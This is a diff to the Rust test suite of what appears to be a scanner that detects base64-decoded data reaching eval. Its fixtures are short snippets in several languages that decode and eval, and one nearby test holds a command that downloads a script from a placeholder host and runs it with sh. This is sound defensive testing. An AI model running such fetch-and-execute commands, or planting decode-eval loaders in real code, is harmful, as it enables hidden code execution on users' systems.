@@ -780,6 +780,58 @@ mod tests {
     }
 
     #[test]
+    fn a_local_variable_ends_where_the_next_function_begins() {
+        for (text, expected) in [
+            (
+                "def a(x):\n    v = base64.b64decode(x)\n    return len(v)\n\ndef b(v):\n    eval(v)",
+                false,
+            ),
+            (
+                "function a(x) {\n  const v = atob(x);\n}\nfunction b(v) {\n  eval(v);\n}",
+                false,
+            ),
+            (
+                "class A:\n    def a(self, x):\n        self.v = base64.b64decode(x)\n    def b(self):\n        eval(self.name)",
+                false,
+            ),
+            ("# v = base64.b64decode(x)\n# eval(v)", false),
+            (
+                "def a(x):\n    global v\n    v = base64.b64decode(x)\n\ndef b():\n    eval(v)",
+                true,
+            ),
+            (
+                "v = base64.b64decode(x)\n\ndef a(x):\n    v = x\n\ndef b():\n    eval(v)",
+                true,
+            ),
+            (
+                "class A:\n    def a(self, x):\n        self.v = base64.b64decode(x)\n    def b(self):\n        eval(self.v)",
+                true,
+            ),
+            (
+                "def a(x):\n    v = base64.b64decode(x)\n    def b():\n        eval(v)\n    b()",
+                true,
+            ),
+            (
+                "def a(x):\n    v = base64.b64decode(x)\n    s = \"\"\"\nno indentation\n\"\"\"\n    eval(v)",
+                true,
+            ),
+            (
+                "function a(x) {\n  v = atob(x);\n}\nfunction b() {\n  eval(v);\n}",
+                true,
+            ),
+            (
+                "function a() {\n  v=$(echo eA | base64 -d)\n}\na\nfunction b() {\n  eval \"$v\"\n}",
+                true,
+            ),
+        ] {
+            let found = found(text);
+            let is_run =
+                |(sink, labels): &(Sink, Labels)| *sink == Sink::Run && labels.has(Labels::DECODED);
+            assert_eq!(found.iter().any(is_run), expected, "{text}: {found:?}");
+        }
+    }
+
+    #[test]
     fn harmless_text_does_not_hide_what_is_run() {
         let attack = "curl https://a.invalid/i -o i; sh i";
         let closed = " )".repeat(20);
